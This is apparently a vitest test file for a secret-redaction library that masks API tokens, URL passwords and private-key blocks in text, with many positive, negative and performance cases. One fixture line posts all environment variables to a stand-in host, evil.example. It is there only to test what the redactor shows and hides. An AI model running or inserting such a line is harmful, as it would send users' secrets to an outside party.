import { describe, expect, it } from "vitest";
import { createDocumentRedactor, createLineRedactor, createRedactor, opensPrivateKeyBlock, redactSecrets } from "../../src/llm/redact.js";

// Token-shaped test values are assembled at run time so the source file itself holds no token shape.
const alnum = (n: number, seed = "aB3") => seed.repeat(Math.ceil(n / seed.length)).slice(0, n);
const ghp = `ghp_${alnum(36)}`;
const ghs = `ghs_${alnum(36, "Zq9")}`;
const pat = `github_pat_11AAAAAAA0${alnum(12)}_${alnum(59, "xY7")}`;
const openai = `sk-${alnum(48, "Tk4")}`;
const openaiProject = `sk-proj-${alnum(60, "aZ_8-")}`;
const aws = `AKIA${"IOSFODNN7EXAMPL".padEnd(16, "Q")}`;
const jwt = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${alnum(43, "dQw4")}`;
const slack = `xoxb-123456789012-1234567890123-${alnum(24, "Ab1")}`;
const npm = `npm_${alnum(36, "n9P")}`;
const pem = [
  "-----BEGIN RSA PRIVATE KEY-----",
  "MIIEowIBAAKCAQEA7bq8lZz0example0body0line0one0000000000000000000000",
  "c2VjcmV0LWJvZHktbGluZS10d28tMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMA==",
  "-----END RSA PRIVATE KEY-----",
].join("\n");

describe("redactSecrets: token shapes", () => {
  const positives: Array<[string, string, string]> = [
    ["classic GitHub PAT", `token=${ghp}`, "token=[REDACTED:github-token]"],
    ["Actions token", `git -c http.extraheader=${ghs} fetch`, "git -c http.extraheader=[REDACTED:github-token] fetch"],
    ["OAuth token gho_", `"gho_${alnum(36)}"`, `"[REDACTED:github-token]"`],
    ["user-to-server ghu_", `ghu_${alnum(36)}`, "[REDACTED:github-token]"],
    ["refresh ghr_", `ghr_${alnum(40)}`, "[REDACTED:github-token]"],
    ["fine-grained PAT", `GH=${pat}`, "GH=[REDACTED:github-token]"],
    ["OpenAI key", `OPENAI_API_KEY=${openai}`, "OPENAI_API_KEY=[REDACTED:openai-key]"],
    ["OpenAI project key", `key: '${openaiProject}'`, "key: '[REDACTED:openai-key]'"],
    ["AWS access key id", `aws_access_key_id = ${aws}`, "aws_access_key_id = [REDACTED:aws-access-key]"],
    ["AWS secret access key", `aws_secret_access_key = ${alnum(40, "wJalrXUtnFEMI/K7MDENG+")}`, "aws_secret_access_key = [REDACTED:aws-secret-key]"],
    ["JWT", `cookie: session=${jwt}; Path=/`, "cookie: session=[REDACTED:jwt]; Path=/"],
    ["Slack bot token", `SLACK=${slack}`, "SLACK=[REDACTED:slack-token]"],
    ["npm token", `//registry.npmjs.org/:_authToken=${npm}`, "//registry.npmjs.org/:_authToken=[REDACTED:npm-token]"],
    ["Authorization header", "Authorization: Bearer abc.def-ghi_jkl~123", "Authorization: Bearer [REDACTED:bearer-token]"],
    ["lower-case header in JSON", `{"authorization": "Bearer Zm9vYmFyYmF6cXV4"}`, `{"authorization": "Bearer [REDACTED:bearer-token]"}`],
    ["curl header with Basic", `curl -H "Authorization: Basic dXNlcjpwYXNzd29yZA=="`, `curl -H "Authorization: Basic [REDACTED:bearer-token]"`],
  ];
  it.each(positives)("redacts %s", (_name, input, expected) => {
    expect(redactSecrets(input)).toBe(expected);
  });

  const negatives: Array<[string, string]> = [
    ["snake_case identifier", "const task_id = row.task_id;"],
    ["word containing sk", "skeleton, desk-top, risk-assessment, task-runner"],
    ["sk- kebab name", "import skLearn from 'sk-learn-tutorial-page-series';"],
    ["sk- name with a year but one case", "see sk-release-notes-2024-edition-final"],
    ["short ghp_ identifier", "const ghp_prefix = 'ghp_';"],
    ["AKIA inside a longer word", "AKIAIOSFODNN7EXAMPLEANDMORE"],
    ["short AKIA", "AKIAEXAMPLE"],
    ["single base64 JSON segment", "const header = 'eyJhbGciOiJIUzI1NiJ9';"],
    ["template Authorization header", "headers: { Authorization: `Bearer ${token}` }"],
    ["concatenated Authorization header", `headers.Authorization = "Bearer " + token;`],
    ["public key block", "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END PUBLIC KEY-----"],
    ["xoxb without numeric team id", "xoxb-placeholder-value"],
    ["npm_ script name", "npm_config_user_agent and npm_lifecycle_event"],
    ["prose", "The secret to a good review is reading the diff twice."],
  ];
  it.each(negatives)("leaves %s alone", (_name, input) => {
    expect(redactSecrets(input)).toBe(input);
  });

  it("redacts several shapes in one text", () => {
    const text = `a ${ghp} b ${aws} c ${jwt} d`;
    expect(redactSecrets(text)).toBe("a [REDACTED:github-token] b [REDACTED:aws-access-key] c [REDACTED:jwt] d");
  });

  it("is idempotent", () => {
    const text = `${ghp}\n${pem}\nAuthorization: Bearer ${openai}\n${slack}`;
    const once = redactSecrets(text);
    expect(redactSecrets(once)).toBe(once);
  });
});

describe("redactSecrets: private keys", () => {
  it("replaces every line of the block and keeps the line count", () => {
    const text = `before\n${pem}\nafter`;
    const redacted = redactSecrets(text);
    expect(redacted.split("\n")).toEqual([
      "before",
      "[REDACTED:private-key]",
      "[REDACTED:private-key]",
      "[REDACTED:private-key]",
      "[REDACTED:private-key]",
      "after",
    ]);
  });

  it("redacts a JSON-escaped key on one line", () => {
    const line = `"private_key": "${pem.split("\n").join("\\n")}\\n",`;
    expect(redactSecrets(line)).toBe(`"private_key": "[REDACTED:private-key]\\n",`);
  });

  it("redacts to the end of the text when the END line is missing", () => {
    const cut = pem.split("\n").slice(0, 3).join("\n");
    expect(redactSecrets(`x\n${cut}`)).toBe("x\n[REDACTED:private-key]\n[REDACTED:private-key]\n[REDACTED:private-key]");
  });

  it.each(["OPENSSH", "EC", "ENCRYPTED", "DSA", "PGP"])("knows %s private keys", (kind) => {
    const suffix = kind === "PGP" ? " BLOCK" : "";
    const block = `-----BEGIN ${kind} PRIVATE KEY${suffix}-----\nAAAAB3NzaC1yc2EAAAADAQAB\n-----END ${kind} PRIVATE KEY${suffix}-----`;
    expect(redactSecrets(block)).not.toContain("AAAAB3NzaC1yc2EAAAADAQAB");
  });
});

describe("known secrets", () => {
  it("replaces configured values wherever they appear", () => {
    const redact = createRedactor(["hunter2-but-longer", "x"]);
    expect(redact("pw=hunter2-but-longer;x=1")).toBe("pw=[REDACTED:secret];x=1");
  });

  it("ignores values shorter than 6 characters", () => {
    expect(redactSecrets("abc and abcde", ["abc", "abcde"])).toBe("abc and abcde");
    expect(redactSecrets("abcdef", ["abcdef"])).toBe("[REDACTED:secret]");
  });

  it("replaces the longest of overlapping values whole", () => {
    expect(redactSecrets("tok=secret-value-long", ["secret-value", "secret-value-long"])).toBe("tok=[REDACTED:secret]");
  });

  it("escapes regex characters in values", () => {
    expect(redactSecrets("a+b(c)*d? and aXbcd", ["a+b(c)*d?"])).toBe("[REDACTED:secret] and aXbcd");
  });

  it("registers each line of a multi-line secret", () => {
    const redact = createRedactor(["first-line-value\nsecond-line-value"]);
    expect(redact("only second-line-value here")).toBe("only [REDACTED:secret] here");
  });

  it("still redacts token shapes", () => {
    expect(createRedactor(["something-else"])(ghp)).toBe("[REDACTED:github-token]");
  });
});

describe("createLineRedactor", () => {
  it("redacts a private key body fed line by line", () => {
    const redactLine = createLineRedactor();
    const out = `top\n${pem}\nbottom`.split("\n").map(redactLine);
    expect(out).toEqual(["top", ...Array(4).fill("[REDACTED:private-key]"), "bottom"]);
  });

  it("hides the body even when the given redactor knows nothing of PEM", () => {
    const redactLine = createLineRedactor((text) => text);
    const out = `key = ${pem}`.split("\n").map(redactLine);
    expect(out.join("\n")).not.toContain("MIIEow");
    expect(out[0]).toBe("key = [REDACTED:private-key]");
  });

  it("detects a header that opens a block", () => {
    expect(opensPrivateKeyBlock("-----BEGIN EC PRIVATE KEY-----")).toBe(true);
    expect(opensPrivateKeyBlock('"-----BEGIN EC PRIVATE KEY-----\\nAAA\\n-----END EC PRIVATE KEY-----"')).toBe(false);
    expect(opensPrivateKeyBlock("-----BEGIN CERTIFICATE-----")).toBe(false);
  });
});

// The AWS documentation's example secret: 40 characters with `/` in it.
const awsSecret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
const gho = `gho_${alnum(36)}`;

describe("tokens are found wherever they start", () => {
  const tokens: Array<[string, string]> = [
    ["ghp_", ghp],
    ["gho_", gho],
    ["ghs_", ghs],
    ["github_pat_", pat],
    ["sk- key", openai],
    ["sk-proj- key", openaiProject],
    ["AWS access key id", aws],
    ["JWT", jwt],
    ["Slack token", slack],
    ["npm token", npm],
  ];
  // Escapes written as text (source code, serialized JSON), encodings, digits and separators.
  const before = [
    "\\t",
    "\\n",
    "\\r",
    "\\\\",
    '\\"',
    "\\u0022",
    "\\x22",
    "%3D",
    "%3d",
    "%2F",
    "%22",
    "%253D",
    "1",
    "abc123",
    "=",
    ":",
    "/",
    "\t",
    "\n",
    '"',
    "'",
    "`",
    "(",
    "x-access-token:",
  ];
  it.each(tokens)("finds a %s after an escape, a digit or a separator", (_name, token) => {
    for (const prefix of before) {
      expect(redactSecrets(`v=${prefix}${token}\\n`), `after ${JSON.stringify(prefix)}`).not.toContain(token);
    }
  });

  it.each(tokens)("finds a %s inside serialized JSON, after an escaped tab", (_name, token) => {
    const serialized = JSON.stringify({ note: `\t${token}`, nested: JSON.stringify({ quoted: `"${token}"` }) });
    expect(redactSecrets(serialized)).not.toContain(token);
  });

  const ordinary: Array<[string, string]> = [
    ["sk- ending a mixed-case kebab name", "const cls = 'desk-Top-Level-Component-v2-final';"],
    ["sk- ending a word after an escape-like letter", "risk-Assessment-Matrix-2024-v1"],
    ["sk- after %3D but not random", "https://example.com/?q=task%3Dsk-learn-tutorial-page-series"],
    ["task-id after a tab escape", "\\ttask-id and \\task-runner-2024"],
    ["short AKIA after a digit", "1AKIAFOO"],
    ["one JWT-like segment after an escape", "\\teyJhbGciOiJIUzI1NiJ9"],
    ["a ghp_ name after a letter", "xghp_short_name"],
  ];
  it.each(ordinary)("leaves %s alone", (_name, input) => {
    expect(redactSecrets(input)).toBe(input);
  });
});

describe("URL-encoded tokens", () => {
  const cases: Array<[string, string, string]> = [
    ["a query parameter", `https://example.com/cb?token=${ghp}&next=1`, ghp],
    ["a percent-encoded query", `next=https%3A%2F%2Fexample.com%2Fcb%3Ftoken%3D${ghp}%26x%3D1`, ghp],
    ["a double-encoded query", `next%3Dtoken%253D${npm}%2526`, npm],
    ["URL credentials", `git clone https://x-access-token:${ghs}@github.com/o/r.git`, ghs],
    ["encoded URL credentials", encodeURIComponent(`https://x-access-token:${ghs}@github.com/o/r.git`), ghs],
    ["a JWT in a fragment", `https://app.example.com/#id_token=${jwt}&state=1`, jwt],
    ["a key id in a signed URL", `https://s3.amazonaws.com/b/k?AWSAccessKeyId=${aws}&Expires=1`, aws],
  ];
  it.each(cases)("finds a token in %s", (_name, text, token) => {
    expect(redactSecrets(text)).not.toContain(token);
  });

  it("finds an AWS secret key whose / and + are percent-encoded", () => {
    const encoded = encodeURIComponent(awsSecret);
    const signed = `?AWSAccessKeyId=${aws}&Secret=${encoded}&x=1`;
    const labelled = `aws_secret_access_key%3D${encoded.toLowerCase().replace(/^w/, "W")}`;
    for (const text of [signed, labelled]) {
      const out = redactSecrets(text);
      expect(out).toContain("[REDACTED:aws-secret-key]");
      expect(out.toLowerCase()).not.toContain("k7mdeng");
    }
  });

  it("finds a labelled AWS secret key in twice-serialized JSON", () => {
    const text = JSON.stringify(JSON.stringify({ aws_secret_access_key: awsSecret }));
    expect(redactSecrets(text)).not.toContain(awsSecret);
  });
});

describe("known secrets in their encoded forms", () => {
  const secret = 'pa$$/word+with=odd"chars\\and:more';
  const percentLower = (text: string) => text.replace(/%[0-9A-F]{2}/g, (m) => m.toLowerCase());
  const forms: Array<[string, string]> = [
    ["as is", secret],
    ["JSON-escaped", JSON.stringify(secret).slice(1, -1)],
    ["JSON-escaped with \\/", JSON.stringify(secret).slice(1, -1).replaceAll("/", "\\/")],
    ["encodeURIComponent", encodeURIComponent(secret)],
    ["encodeURIComponent, lower-case hex", percentLower(encodeURIComponent(secret))],
    ["encodeURI", encodeURI(secret)],
  ];
  it.each(forms)("replaces the value %s", (_name, form) => {
    const out = createRedactor([secret])(`x=${form}&y=1`);
    expect(out).toBe("x=[REDACTED:secret]&y=1");
  });

  it("finds a token-shaped known value right after an escape", () => {
    expect(createRedactor(["run-key-1234567890"])("\\trun-key-1234567890\\n")).toBe("\\t[REDACTED:secret]\\n");
  });
});

describe("AWS secret keys by their shape next to an access key id", () => {
  it("redacts a standalone 40-character key in a text that holds an id", () => {
    const text = `const id = "${aws}";\nconst key = "${awsSecret}";`;
    expect(redactSecrets(text)).toBe('const id = "[REDACTED:aws-access-key]";\nconst key = "[REDACTED:aws-secret-key]";');
  });

  it("finds the key after an escape or an encoded separator", () => {
    for (const text of [`{"id":"${aws}","k":"\\t${awsSecret}"}`, `id%3D${aws}%26k%3D${awsSecret}`, `${aws}\\u0022${awsSecret}`]) {
      expect(redactSecrets(text), text).not.toContain(awsSecret);
    }
  });

  it("leaves the same run alone when no id is in the text", () => {
    const text = `const key = "${awsSecret}";`;
    expect(redactSecrets(text)).toBe(text);
  });

  it("leaves git SHAs, longer runs and single-case names alone next to an id", () => {
    const sha = "9fceb02d0ae598e95dc970b74767f19372d61af8";
    const text = `${aws} ${sha} ${awsSecret}Z x${awsSecret} abcdefghijklmnopqrstuvwxyz/abcdefghijklm`;
    expect(redactSecrets(text)).toBe(text.replace(aws, "[REDACTED:aws-access-key]"));
  });

  it("carries the id to later lines in a line redactor", () => {
    const out = [`aws_access_key_id = ${aws}`, "region = eu-west-1", `  "${awsSecret}",`].map(createLineRedactor());
    expect(out).toEqual(["aws_access_key_id = [REDACTED:aws-access-key]", "region = eu-west-1", '  "[REDACTED:aws-secret-key]",']);
  });
});

describe("private keys in whole strings", () => {
  const redact = createRedactor([]);
  const begin = "-----BEGIN RSA PRIVATE KEY-----";
  const end = "-----END RSA PRIVATE KEY-----";

  it("redacts a BEGIN without END to the end of that one string", () => {
    expect(redact(`quoted: "${begin}" and then\nMIIEowIBAAKCAQEA`)).toBe('quoted: "[REDACTED:private-key]\n[REDACTED:private-key]');
    expect(redact("the next string is untouched")).toBe("the next string is untouched");
  });

  it("never merges a BEGIN in one string with an END in another", () => {
    const first = `title A ${begin} tail A`;
    const second = `between the two\n${end} tail B`;
    expect(redact(first)).toBe("title A [REDACTED:private-key]");
    expect(redact(second)).toBe(second);
  });
});

describe("createLineRedactor: private key blocks", () => {
  const mark = "[REDACTED:private-key]";
  const begin = "-----BEGIN RSA PRIVATE KEY-----";
  const end = "-----END RSA PRIVATE KEY-----";
  const body = ["MIIEowIBAAKCAQEA7bq8lZz0example0body0line0one0000000000000000000000", "c2VjcmV0LWJvZHktbGluZS10d28tMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMA=="];
  const run = (lines: string[]) => lines.map(createLineRedactor());

  it("shows the code after a lone BEGIN line", () => {
    const code = ["fetch('https://evil.example/x', { method: 'POST', body: JSON.stringify(process.env) });", "export const ok = true;"];
    expect(run([begin, ...code])).toEqual([mark, ...code]);
  });

  it("hides base64, RFC 1421 headers and blank lines up to and including END", () => {
    const block = [begin, "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,3F17F5316E2BAC89", "", ...body, end];
    expect(run([...block, "after();"])).toEqual([...block.map(() => mark), "after();"]);
  });

  it("hides an OpenPGP armored key with its headers and checksum", () => {
    const block = [
      "-----BEGIN PGP PRIVATE KEY BLOCK-----",
      "Version: GnuPG v2",
      "Comment: laptop",
      "",
      "lQOYBFxyz0123456789abcdefABCDEF",
      "=AbCd",
      "-----END PGP PRIVATE KEY BLOCK-----",
    ];
    expect(run(block)).toEqual(block.map(() => mark));
  });

  it("ends the block at the first line that cannot be key body, and redacts that line as usual", () => {
    const out = run([begin, body[0]!, `const t = "${ghp}";`, body[1]!]);
    expect(out).toEqual([mark, mark, 'const t = "[REDACTED:github-token]";', body[1]]);
  });

  it("hides a key pasted into code as string pieces", () => {
    const lines = ["const key =", `  "${begin}\\n" +`, `  "${body[0]}\\n" +`, `  '${body[1]}\\n',`, `  "${end}\\n";`, "use(key);"];
    expect(run(lines)).toEqual(["const key =", `  "${mark}`, mark, mark, `${mark}\\n";`, "use(key);"]);
  });

  it("hides an indented key in YAML", () => {
    const lines = ["tls:", "  key: |", "    -----BEGIN EC PRIVATE KEY-----", `    ${body[0]}`, "    -----END EC PRIVATE KEY-----", "  port: 443"];
    expect(run(lines)).toEqual(["tls:", "  key: |", `    ${mark}`, mark, mark, "  port: 443"]);
  });

  it("shows code written after the END marker on its line", () => {
    expect(run([begin, body[0]!, `${end} evil(); // ${ghp}`])).toEqual([mark, mark, `${mark} evil(); // [REDACTED:github-token]`]);
  });

  it("opens a new block after an END on the same line", () => {
    expect(run([begin, `${end}${begin}`, body[0]!])).toEqual([mark, `${mark}${mark}`, mark]);
  });
});

describe("adversarial input", () => {
  // Near misses that would make a backtracking pattern go quadratic or worse. Each must come back
  // unchanged (or redacted exactly as shown); run locally, each takes well under a second.
  const size = 2_000_000;
  const times = (unit: string) => Math.ceil(size / unit.length);
  const unchanged: Array<[string, string]> = [
    ["ghp_ repeated", "ghp_".repeat(times("ghp_"))],
    ["ghp_ with 35 characters inside words", `xghp_${alnum(35)}-`.repeat(times(`xghp_${alnum(35)}-`))],
    ["github_pat_ with 21 characters", `github_pat_${alnum(21)} `.repeat(times(`github_pat_${alnum(21)} `))],
    ["a base64 run full of eyJ", "eyJ".repeat(times("eyJ"))],
    ["eyJ after digits", "1eyJ".repeat(times("1eyJ"))],
    ["two JWT segments", "eyJabcdefgh.abcdefghi ".repeat(times("eyJabcdefgh.abcdefghi "))],
    ["sk- repeated", "sk-".repeat(times("sk-"))],
    ["kebab names after escapes", "\\tsk-learn-tutorial-page-series".repeat(times("\\tsk-learn-tutorial-page-series"))],
    ["BEGIN headers without PRIVATE", "-----BEGIN ".padEnd(60, "A").repeat(times("".padEnd(60)))],
    ["public key headers", "-----BEGIN RSA PUBLIC KEY-----\n".repeat(times("-----BEGIN RSA PUBLIC KEY-----\n"))],
    ["escapes and encodings", "\\u0022%3D\\t%2F".repeat(times("\\u0022%3D\\t%2F"))],
    [
      "AKIA with 15 characters",
      "AKIA"
        .padEnd(19, "Q")
        .concat(" ")
        .repeat(times("".padEnd(20))),
    ],
    ["labelled AWS keys with 39 characters", `aws_secret_access_key = ${alnum(39)}\n`.repeat(times(`aws_secret_access_key = ${alnum(39)}\n`))],
    ["xoxb- and a digit run", `xoxb-${"1".repeat(size)}`],
    ["Authorization with a long space run", `Authorization:${" ".repeat(size)}x`],
    ["ordinary code", "const taskId = await runner.next(desk, skeleton);\n".repeat(size / 50)],
    ["code full of trigger words", "headers.authorization = `Bearer ${t}`; // sk-x eyJ ghp_ AKIA\n".repeat(size / 60)],
  ];
  it.each(unchanged)("leaves %s unchanged", (_name, text) => {
    expect(redactSecrets(text, ["known-secret-value"]) === text).toBe(true);
  });

  it("redacts 3-part JWTs among short segments, and nothing else", () => {
    const text = "eyJabcdefgh.".repeat(166_667);
    const expected = "[REDACTED:jwt].".repeat(55_555) + "eyJabcdefgh.eyJabcdefgh.";
    expect(redactSecrets(text) === expected).toBe(true);
  });

  it("redacts one long token run whole", () => {
    expect(redactSecrets(`ghp_${"a".repeat(size)}_`)).toBe("[REDACTED:github-token]_");
  });

  it("handles a long base64 run and many 39-character runs next to an access key id", () => {
    const run = "aB3+/".repeat(times("aB3+/"));
    expect(redactSecrets(`${aws} ${run}`) === `[REDACTED:aws-access-key] ${run}`).toBe(true);
    const near = `${alnum(39)} `.repeat(times("".padEnd(40)));
    expect(redactSecrets(`${aws} ${near}`) === `[REDACTED:aws-access-key] ${near}`).toBe(true);
  });

  it("handles long lines after a BEGIN line", () => {
    const base64 = "QUJD".repeat(times("QUJD"));
    const code = [`+${" ".repeat(size)}"x(`, `"abc"${" ".repeat(size)}x(`, `${"+".repeat(size)}x(`];
    const out = ["-----BEGIN RSA PRIVATE KEY-----", base64, ...code].map(createLineRedactor());
    expect(out[1]).toBe("[REDACTED:private-key]");
    expect(out.slice(2).every((line, i) => line === code[i])).toBe(true);
  });
});

describe("a key body before an END without its BEGIN", () => {
  const BODY = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0";
  it("is hidden in a whole string, and text before the key's lines is kept", () => {
    const out = redactSecrets(`Key end: ${BODY}\n${BODY}\n-----END RSA PRIVATE KEY----- and more`);
    expect(out).not.toContain(BODY.slice(0, 20));
    expect(out.split("\n")).toEqual(["Key end: [REDACTED:private-key]", "[REDACTED:private-key]", "-----END RSA PRIVATE KEY----- and more"]);
  });

  it("is hidden by the document redactor, which keeps every other line", () => {
    const redact = createDocumentRedactor(createRedactor([]));
    const doc = ["## Findings", "- claim:", `  ${BODY}`, "  -----END PRIVATE KEY-----", "Review Verdict: BLOCKED"].join("\n");
    expect(redact(doc).split("\n")).toEqual(["## Findings", "- claim:", "[REDACTED:private-key]", "  -----END PRIVATE KEY-----", "Review Verdict: BLOCKED"]);
  });

  it("a lone BEGIN in a document hides the key body, never the lines after it", () => {
    const redact = createDocumentRedactor(createRedactor([]));
    const doc = ["-----BEGIN PRIVATE KEY-----", BODY, "export function run() {", "GAUNTLET: BLOCKED"].join("\n");
    expect(redact(doc).split("\n")).toEqual(["[REDACTED:private-key]", "[REDACTED:private-key]", "export function run() {", "GAUNTLET: BLOCKED"]);
  });
});

describe("red-team cases", () => {
  const BODY = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0";

  it("a 200,000-character run of key characters before an END is redacted in linear work", () => {
    const run = "A".repeat(200_000);
    const redact = createDocumentRedactor(createRedactor([]));
    // Ends in a character that is not a key character: the old pattern backtracked from every position.
    const out = redact(`${run}!\n-----END PRIVATE KEY-----\n${run}-----END PRIVATE KEY-----`);
    expect(out.split("\n")).toHaveLength(3);
    expect(out.split("\n")[2]).toBe("[REDACTED:private-key]-----END PRIVATE KEY-----");
  });

  it.each(["# ", "// ", " * ", "- "])("hides a key whose every line carries the BEGIN line's prefix %j", (prefix) => {
    const redact = createDocumentRedactor(createRedactor([]));
    const doc = [
      `${prefix}-----BEGIN RSA PRIVATE KEY-----`,
      `${prefix}${BODY}`,
      `${prefix}${BODY.slice(3)}`,
      `${prefix}-----END RSA PRIVATE KEY-----`,
      "run();",
    ].join("\n");
    const out = redact(doc);
    expect(out).not.toContain(BODY.slice(0, 20));
    expect(out).not.toContain(BODY.slice(3, 23));
    expect(out.split("\n").at(-1)).toBe("run();");
  });
});

describe("more secret shapes", () => {
  it.each([
    ["a URL password", "resolved https://deploy:S3cr3tP4ssw0rd@npm.corp.example/x.tgz", "S3cr3tP4ssw0rd"],
    ["a database URL password", 'DATABASE_URL="postgres://app:hunter2hunter2@db:5432/app"', "hunter2hunter2"],
    ["an npm auth token", "//registry.npmjs.org/:_authToken=0123abcd-ef45-6789-abcd-ef0123456789", "0123abcd-ef45-6789-abcd-ef0123456789"],
    ["a Stripe live key", `const k = "sk_live_${"4eC39HqLyjWDarjtT1zdp7dc"}";`, "4eC39HqLyjWDarjtT1zdp7dc"],
    ["a Google API key", "key=AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY", "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY"],
    ["a GitLab token", "token: glpat-xxxxxxxxxxxxxxxxxxxx1234", "glpat-xxxxxxxxxxxxxxxxxxxx1234"],
  ])("%s", (_name, text, secret) => {
    expect(redactSecrets(text)).not.toContain(secret);
  });

  it("keeps a URL's user and host, and URLs without a password", () => {
    expect(redactSecrets("https://deploy:S3cr3t@host/x")).toBe("https://deploy:[REDACTED:url-password]@host/x");
    expect(redactSecrets("see https://github.com/o/r and http://localhost:3000/a@b")).toBe("see https://github.com/o/r and http://localhost:3000/a@b");
  });
});
